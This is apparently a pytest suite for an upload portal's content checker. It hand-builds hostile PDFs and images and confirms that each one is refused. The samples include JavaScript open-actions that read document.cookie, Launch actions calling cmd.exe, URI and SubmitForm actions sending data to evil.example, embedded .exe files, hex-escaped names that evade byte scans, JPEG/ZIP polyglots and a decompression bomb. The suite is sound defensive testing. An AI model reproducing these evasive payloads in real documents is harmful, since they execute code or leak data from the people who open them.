"""Content checks that parse, not grep (portal/materials/sniff.py `check_stored`).

Each hostile file is built here by hand or with pypdf's writer, and each is shown to
slip past the raw byte scan (`ContentScanner`, `check_content`) — so the refusal really
comes from parsing: pypdf walking every object, Pillow decoding every pixel, and the
end of an image located exactly. Each is refused through HTTP with a 中文 message (415,
the shape of every content refusal) and by the checking function itself. Ordinary
files made by reportlab, pypdf and Pillow pass, so the checks are not simply strict.
"""

from __future__ import annotations

import io
import re
import sqlite3
import struct
import time
import zipfile
import zlib

import pypdf
import pytest
from PIL import Image
from pypdf.generic import (
    ArrayObject,
    FloatObject,
    NameObject,
    NumberObject,
)

from portal.errors import UnsupportedType
from portal.materials import sniff
from portal.materials.sniff import ContentScanner, check_content, check_stored
from tests.conftest import PDF_BYTES, jpeg_bytes, png_bytes
from tests.kit import assert_clear_refusal, png_bomb, png_chunk, stored_files_of

# --- building PDFs by hand -------------------------------------------------------------


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of numbered objects (1 is the catalog) with a correct xref table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\n" % (len(objects) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]%s>>"


def one_page(catalog_extra: bytes = b"", page_extra: bytes = b"", more: tuple | list = ()) -> bytes:
    """A one-page PDF with something added to its catalog or page; objects 4… are `more`."""
    return pdf(
        [b"<</Type/Catalog/Pages 2 0 R" + catalog_extra + b">>", PAGES, PAGE % page_extra, *more]
    )


def with_object_stream(compressed: dict[int, bytes], plain: dict[int, bytes]) -> bytes:
    """A PDF 1.5 whose objects `compressed` sit inside one zlib /ObjStm, found through a
    compressed cross-reference stream: none of their bytes appear in the file as such."""
    stream_num = max([*compressed, *plain]) + 1
    xref_num = stream_num + 1
    bodies, offsets, position = [], [], 0
    for body in compressed.values():
        offsets.append(position)
        bodies.append(body + b"\n")
        position += len(body) + 1
    header = b" ".join(b"%d %d" % (n, o) for n, o in zip(compressed, offsets, strict=True))
    header += b"\n"
    data = zlib.compress(header + b"".join(bodies))
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    where: dict[int, tuple[int, int, int]] = {}  # number -> (type, field 2, field 3)
    for number, body in plain.items():
        where[number] = (1, len(out), 0)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    where[stream_num] = (1, len(out), 0)
    out += (
        b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n"
        % (stream_num, len(compressed), len(header), len(data))
        + data
        + b"\nendstream\nendobj\n"
    )
    for index, number in enumerate(compressed):
        where[number] = (2, stream_num, index)
    where[xref_num] = (1, len(out), 0)
    size = xref_num + 1
    rows = b"".join(
        struct.pack(">BIH", *where.get(n, (0, 0, 0xFFFF if n == 0 else 0))) for n in range(size)
    )
    table = zlib.compress(rows)
    xref = len(out)
    out += (
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>\n"
        b"stream\n"
        % (xref_num, size, len(table))
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    )
    return bytes(out)


def writer_pdf(build=None, *, encrypt: dict | None = None) -> bytes:
    """A one-page PDF written by pypdf, after `build(writer)` adds to it."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    if build is not None:
        build(writer)
    if encrypt is not None:
        writer.encrypt(**encrypt)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def reportlab_pdf() -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    page = canvas.Canvas(out, pagesize=A4)
    page.drawString(72, 760, "Shenqing shu - application form, page 1")
    page.linkURL("https://www.gov.cn/", (72, 700, 300, 720))  # a link a reader may click
    page.showPage()
    page.save()
    return out.getvalue()


EMBEDDED_STREAM = b"<</Type/Embedded#46ile/Length 5>>\nstream\nMZ\x90\x00\x03\nendstream"

HOSTILE_PDFS = {
    # Names spelled with #xx escapes: /J#61vaScript is /JavaScript to every viewer.
    "openaction_javascript_hex_escaped": one_page(
        b"/OpenAction<</S/J#61vaScript/J#53(app.alert(document.cookie))>>"
    ),
    "names_tree_javascript_hex_escaped": one_page(
        b"/Names<</J#61v#61Script 4 0 R>>",
        more=[b"<</Names[(a) 5 0 R]>>", b"<</S/J#61vaScr#69pt/J#53(x)>>"],
    ),
    # The catalog and its action inside a zlib-compressed object stream (PDF 1.5).
    "javascript_in_object_stream": with_object_stream(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
            4: b"<</S/JavaScript/JS(app.alert(1))>>",
        },
        {2: PAGES, 3: PAGE % b""},
    ),
    "launch_in_object_stream": with_object_stream(
        {4: b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"},
        {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", 2: PAGES, 3: PAGE % b""},
    ),
    "launch_hex_escaped": one_page(b"/OpenAction<</S/L#61unch/F(cmd.exe)>>"),
    "embedded_files_hex_escaped": one_page(
        b"/Names<</Embedded#46iles<</Names[(readme.exe) 4 0 R]>>>>",
        more=[b"<</Type/Filespec/F(readme.exe)/EF<</F 5 0 R>>>>", EMBEDDED_STREAM],
    ),
    "file_attachment_annotation": one_page(
        page_extra=b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 10 10]/FS 4 0 R>>]",
        more=[b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", EMBEDDED_STREAM],
    ),
    # Actions the viewer runs by itself: on opening, and on a page's open trigger.
    "openaction_uri": one_page(b"/OpenAction<</S/URI/URI(https://evil.example/?leak)>>"),
    "page_aa_submitform": one_page(
        page_extra=b"/AA<</O<</S/SubmitForm/F<</FS/URL/F(https://evil.example/collect)>>>>>>"
    ),
    "openaction_goto_then_uri_by_next": one_page(
        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>",
        more=[b"<</S/URI/URI(https://evil.example/)>>"],
    ),
    "catalog_aa_import_data": one_page(b"/AA<</WC<</S/ImportData/F(data.fdf)>>>>"),
    "catalog_aa_remote_goto": one_page(b"/AA<</DP<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)>>>>"),
    "rich_media_annotation": one_page(
        page_extra=b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 10 10]>>]"
    ),
    "xfa_form": one_page(
        b"/AcroForm<</Fields[]/XFA 4 0 R>>", more=[b"<</Length 0>>\nstream\n\nendstream"]
    ),
    "indirect_action_name": one_page(b"/OpenAction<</S 4 0 R/J#53(x)>>", more=[b"/J#61vaScript"]),
}

BROKEN_PDFS = {
    "no_pages": (PDF_BYTES.replace(b"Kids[3 0 R]/Count 1", b"Kids[]/Count 0     "), "empty_pdf"),
    "old_test_pdf_without_pages": (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>"
        b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
        "broken_pdf",  # no startxref either: nothing a reader could even start from
    ),
    "not_a_pdf_at_all": (b"%PDF-1.4\n32041219900101123X\n%%EOF\n", "broken_pdf"),
    "password_protected": (
        writer_pdf(encrypt={"user_password": "secret", "algorithm": "AES-128"}),
        "encrypted_pdf",
    ),
}


def _pdf_with_link(writer: pypdf.PdfWriter) -> None:
    from pypdf.annotations import Link

    writer.add_annotation(0, Link(rect=(50, 50, 200, 70), url="https://www.gov.cn/"))
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(  # a destination, not an action
        [
            writer.pages[0].indirect_reference,
            NameObject("/XYZ"),
            NumberObject(0),
            FloatObject(842),
            NumberObject(1),
        ]
    )
    writer.add_metadata({"/Title": "申请书"})


GOOD_PDFS = {
    "conftest_pdf": PDF_BYTES,
    "reportlab_with_clickable_link": reportlab_pdf(),
    "pypdf_blank_page": writer_pdf(),
    "pypdf_link_and_open_destination": writer_pdf(_pdf_with_link),
    "owner_password_only": writer_pdf(
        encrypt={"user_password": "", "owner_password": "o", "algorithm": "AES-128"}
    ),
    "object_stream_without_actions": with_object_stream(
        {1: b"<</Type/Catalog/Pages 2 0 R/PageMode/UseNone>>", 2: PAGES}, {3: PAGE % b""}
    ),
}


# --- building images -------------------------------------------------------------------


def photo_jpeg(size=(400, 300)) -> bytes:
    """A JPEG whose scan is tens of kilobytes (noise does not compress)."""
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, "JPEG", quality=90)
    return out.getvalue()


def com_segment(data: bytes) -> bytes:
    assert len(data) <= 65_533
    return b"\xff\xfe" + struct.pack(">H", len(data) + 2) + data


def zip_with_comment(comment_size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.html", "<b>hi</b>")
        archive.comment = b"c" * comment_size
    return out.getvalue()


def jpeg_with_segment(segment: bytes, image: bytes | None = None) -> bytes:
    image = image or photo_jpeg()
    return image[:2] + segment + image[2:]


def jpeg_zip_behind_long_comment() -> bytes:
    """The archive appended after EOI, its end record pushed 64 KiB from the file's end by
    a long zip comment, and a long COM segment in front: past a 4 KiB head/tail look."""
    return jpeg_with_segment(com_segment(b"x" * 60_000)) + zip_with_comment(65_000)


def jpeg_zip_inside_comment() -> bytes:
    """The archive inside a COM segment, more than 4 KiB in and from the end: the file is
    a sound JPEG ending at EOI, and still a ZIP a reader opens."""
    inner = com_segment(zip_with_comment(0))
    return jpeg_with_segment(com_segment(b"x" * 8_000) + inner, photo_jpeg((200, 150)))


def truncated(data: bytes, keep: int) -> bytes:
    return data[:keep]


def noise_png(size=(300, 200)) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).save(out, "PNG")
    return out.getvalue()


def _corrupted(png: bytes) -> bytes:
    """Bytes of the image data flipped: the chunk structure holds, the pixels do not."""
    return png[:200] + bytes(b ^ 0x55 for b in png[200:400]) + png[400:]


HOSTILE_IMAGES = {
    "jpeg_zip_behind_long_comment": (jpeg_zip_behind_long_comment(), "polyglot"),
    "jpeg_zip_inside_comment": (jpeg_zip_inside_comment(), "polyglot"),
    "jpeg_junk_after_eoi": (photo_jpeg() + b"\x00MOTIONPHOTO" + b"v" * 20_000, "trailing_data"),
    "png_junk_after_iend": (noise_png() + b"#!/bin/sh\necho pwned\n" * 10, "trailing_data"),
    "jpeg_cut_in_the_scan": (truncated(photo_jpeg(), 20_000), "broken_image"),
    "jpeg_without_eoi": (photo_jpeg()[:-2], "broken_image"),
    "png_cut_in_idat": (truncated(noise_png(), 30_000), "broken_image"),
    "png_cut_in_iend": (noise_png()[:-3], "broken_image"),
    "png_corrupt_idat": (_corrupted(noise_png()), "broken_image"),
    "png_6300x6300": (png_bomb(6_300, 6_300), "image_too_large"),
}

GOOD_IMAGES = {
    "png": (png_bytes(), "image/png"),
    "jpeg": (jpeg_bytes(), "image/jpeg"),
    "photo_jpeg": (photo_jpeg(), "image/jpeg"),
    "jpeg_with_long_comment": (
        jpeg_with_segment(com_segment(b"scanned by office copier " * 2000)),
        "image/jpeg",
    ),
    "png_with_a_few_padding_bytes": (png_bytes() + b"\x00" * 8, "image/png"),
    "grey_1bit_png_3000x2000": (png_bomb(3_000, 2_000), "image/png"),
}


# --- helpers -----------------------------------------------------------------------------


def kind_of(content: bytes) -> str:
    kind = sniff.sniff(content[:16])
    assert kind is not None
    return kind


def raw_scan_passes(content: bytes) -> None:
    """The streaming byte checks see nothing wrong: what refuses the file is the parser."""
    scanner = ContentScanner()
    for start in range(0, len(content), 64 * 1024):
        scanner.feed(content[start : start + 64 * 1024])
    check_content(kind_of(content), content[: 512 * 1024], content[-4096:], scanner)


def refusal(content: bytes) -> UnsupportedType:
    with pytest.raises(UnsupportedType) as caught:
        check_stored(kind_of(content), io.BytesIO(content))
    return caught.value


def upload(client, auth, url, content: bytes, name: str):
    filename = "scan.pdf" if content.startswith(b"%PDF") else name + ".img"
    return client.post(
        url, files={"file": (filename, content, "application/octet-stream")}, headers=auth
    )


CJK = re.compile(r"[\u4e00-\u9fff]")


# --- PDFs ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", HOSTILE_PDFS)
def test_hostile_pdf_is_refused_by_the_parser(name):
    content = HOSTILE_PDFS[name]
    raw_scan_passes(content)
    assert len(pypdf.PdfReader(io.BytesIO(content), strict=True).pages) == 1  # well-formed
    refused = refusal(content)
    assert refused.code in {"active_content", "embedded_file"}, name
    assert CJK.search(refused.message)


@pytest.mark.parametrize("name", BROKEN_PDFS)
def test_pdf_without_pages_or_that_does_not_parse_is_refused(name):
    content, code = BROKEN_PDFS[name]
    assert refusal(content).code == code


@pytest.mark.parametrize("name", GOOD_PDFS)
def test_ordinary_pdfs_pass(name):
    assert check_stored("application/pdf", io.BytesIO(GOOD_PDFS[name])) is None


def test_plain_spellings_are_refused_by_the_parser_too():
    # The raw scan would stop these; the parser must not rely on it.
    for extra in (b"/OpenAction<</S/JavaScript/JS(1)>>", b"/OpenAction<</S/Launch/F(x)>>"):
        assert refusal(one_page(extra)).code == "active_content"
    attachment = writer_pdf(lambda w: w.add_attachment("a.exe", b"MZ"))
    assert refusal(attachment).code == "embedded_file"
    from pypdf.actions import JavaScript

    script = writer_pdf(lambda w: w.add_open_action(JavaScript("app.alert(1);")))
    assert refusal(script).code == "active_content"


def test_hostile_pdfs_are_refused_through_http(client, auth, api_target, fs_guard):
    for name, content in {**HOSTILE_PDFS, **{k: v for k, (v, _) in BROKEN_PDFS.items()}}.items():
        response = upload(client, auth, api_target, content, name)
        assert_clear_refusal(response, 415)
        error = response.json()["error"]
        assert error["code"] in {
            "active_content",
            "embedded_file",
            "empty_pdf",
            "broken_pdf",
            "encrypted_pdf",
        }, (name, error)
    assert stored_files_of(client, auth, api_target) == []


def test_ordinary_pdfs_are_stored_through_http(client, auth, api_target, fs_guard):
    for name, content in GOOD_PDFS.items():
        response = upload(client, auth, api_target, content, name)
        assert response.status_code == 201, (name, response.text)
    assert len(stored_files_of(client, auth, api_target)) == len(GOOD_PDFS)


def test_the_refusal_is_shown_next_to_the_material_on_the_page(client, page_target, fs_guard):
    url, token, case_no = page_target
    code = url.split("/")[4]
    response = client.post(
        url,
        data={"csrf_token": token},
        files={
            "file": ("申请书.pdf", HOSTILE_PDFS["javascript_in_object_stream"], "application/pdf")
        },
    )
    assert response.status_code == 415
    beside = re.search(
        rf'<p class="error-message" id="err-{code}"[^>]*>(.*?)</p>', response.text, re.S
    )
    assert beside is not None and "可执行内容" in beside.group(1)
    response = client.post(
        url,
        data={"csrf_token": token},
        files={"file": ("photo.jpg", jpeg_zip_behind_long_comment(), "image/jpeg")},
    )
    beside = re.search(
        rf'<p class="error-message" id="err-{code}"[^>]*>(.*?)</p>', response.text, re.S
    )
    assert beside is not None and "压缩包" in beside.group(1)


def many_object_streams(count: int, inflated: int) -> bytes:
    """A one-page PDF 1.5 with `count` object streams, each inflating to `inflated` bytes
    (one `null` object and spaces) from a few kilobytes of zlib."""
    plain = [b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE % b""]
    out = bytearray(b"%PDF-1.5\n")
    where: dict[int, tuple[int, int, int]] = {}
    for number, body in enumerate(plain, 1):
        where[number] = (1, len(out), 0)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    first_member = len(plain) + 1
    first_stream = first_member + count
    for i in range(count):
        member, number = first_member + i, first_stream + i
        header = b"%d 0\n" % member
        data = zlib.compress(header + b"null" + b" " * (inflated - len(header) - 4), 9)
        where[number] = (1, len(out), 0)
        where[member] = (2, number, 0)
        out += (
            b"%d 0 obj\n<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>\nstream\n"
            % (number, len(header), len(data))
            + data
            + b"\nendstream\nendobj\n"
        )
    xref_num = first_stream + count
    where[xref_num] = (1, len(out), 0)
    size = xref_num + 1
    rows = b"".join(struct.pack(">BIH", *where.get(n, (0, 0, 0))) for n in range(size))
    table = zlib.compress(rows)
    at = len(out)
    out += (
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>\n"
        b"stream\n"
        % (xref_num, size, len(table))
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at
    )
    return bytes(out)


def test_object_stream_bombs_are_refused_within_a_memory_budget():
    mib = 1024 * 1024
    # One stream inflating past pypdf's per-stream limit for the check (16 MiB)...
    assert refusal(many_object_streams(1, 20 * mib)).code == "pdf_too_complex"
    # ... and many under it, together past the 64 MiB budget of object streams.
    many = many_object_streams(6, 15 * mib)
    assert len(many) < 200_000
    assert refusal(many).code == "pdf_too_complex"
    # The same layout, small, is an ordinary PDF.
    assert check_stored("application/pdf", io.BytesIO(many_object_streams(6, 1_000))) is None


# --- images ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", HOSTILE_IMAGES)
def test_hostile_image_is_refused_by_parsing(name):
    content, code = HOSTILE_IMAGES[name]
    if code != "image_too_large":  # that one the header check refuses as well
        raw_scan_passes(content)
    refused = refusal(content)
    assert refused.code == code, (name, refused.code)
    assert CJK.search(refused.message)


def test_the_polyglots_really_are_zip_archives():
    # Otherwise the two polyglot cases above would prove nothing.
    for content in (jpeg_zip_behind_long_comment(), jpeg_zip_inside_comment()):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert archive.namelist()
        Image.open(io.BytesIO(content)).load()  # ... and pictures a viewer shows


@pytest.mark.parametrize("name", GOOD_IMAGES)
def test_ordinary_images_pass_with_a_thumbnail(name):
    content, kind = GOOD_IMAGES[name]
    thumbnail = check_stored(kind, io.BytesIO(content))
    assert thumbnail is not None
    preview = Image.open(io.BytesIO(thumbnail))
    assert preview.format == "JPEG" and max(preview.size) <= 160


def test_hostile_images_are_refused_through_http(client, auth, api_target, fs_guard):
    for name, (content, code) in HOSTILE_IMAGES.items():
        response = upload(client, auth, api_target, content, name)
        assert_clear_refusal(response, 415)
        assert response.json()["error"]["code"] == code, name
    assert stored_files_of(client, auth, api_target) == []


def test_ordinary_images_are_stored_through_http(client, auth, api_target, fs_guard):
    for name, (content, _) in GOOD_IMAGES.items():
        response = upload(client, auth, api_target, content, name)
        assert response.status_code == 201, (name, response.text)


def test_a_6300_square_png_is_refused_before_any_decode(monkeypatch):
    # 39.7 MP of 1-bit zeros in a 5 KB file; as Pillow RGB that would be ~150 MiB.
    # Over the 36 MP budget, so refused from its size before load() allocates anything.
    bomb = png_bomb(6_300, 6_300)
    assert len(bomb) < 100_000
    loads: list[tuple[int, int]] = []
    original = Image.Image.load

    def counting_load(self):
        loads.append(self.size)
        return original(self)

    monkeypatch.setattr(Image.Image, "load", counting_load)
    started = time.monotonic()
    assert refusal(bomb).code == "image_too_large"
    assert time.monotonic() - started < 2
    assert all(w * h <= sniff.MAX_PIXELS for w, h in loads), loads
    assert "3600 万" in sniff.TOO_MANY_PIXELS


def test_the_pixel_budget_is_enforced_on_the_decode_itself(monkeypatch):
    # Even if the header check were skipped, check_stored refuses before load().
    monkeypatch.setattr(sniff, "MAX_PIXELS", 2_000)
    assert refusal(png_bytes((60, 40))).code == "image_too_large"
    assert refusal(jpeg_bytes((60, 40))).code == "image_too_large"


@pytest.mark.sqlite  # probes SQLite's write lock; on PostgreSQL the same code path runs
def test_thumbnails_are_decoded_outside_any_write_transaction(
    client, auth, api_target, settings, monkeypatch, fs_guard
):
    """Every Pillow decode of an upload happens while another connection could take the
    database's write lock: not inside the request's transaction, nor the attach step's."""
    path = settings.database_url.split("///", 1)[1]
    free: list[bool] = []
    original = Image.Image.load

    def probing_load(self):
        probe = sqlite3.connect(path, timeout=0)
        try:
            probe.execute("BEGIN IMMEDIATE")
            probe.rollback()
            free.append(True)
        except sqlite3.OperationalError:  # database is locked: a write transaction is open
            free.append(False)
        finally:
            probe.close()
        return original(self)

    monkeypatch.setattr(Image.Image, "load", probing_load)
    response = upload(client, auth, api_target, photo_jpeg(), "photo")
    assert response.status_code == 201, response.text
    assert free and all(free), free
    assert len(list((settings.data_dir / "thumbs").rglob("*.jpg"))) == 1  # and it was kept


def test_a_png_with_zip_in_a_text_chunk_near_the_end_is_refused():
    data = png_bytes()
    iend = data.rindex(b"IEND") - 4
    content = (
        data[:iend]
        + png_chunk(b"tEXt", b"Comment\x00" + b"x" * 5_000 + zip_with_comment(0))
        + data[iend:]
    )
    assert refusal(content).code == "polyglot"
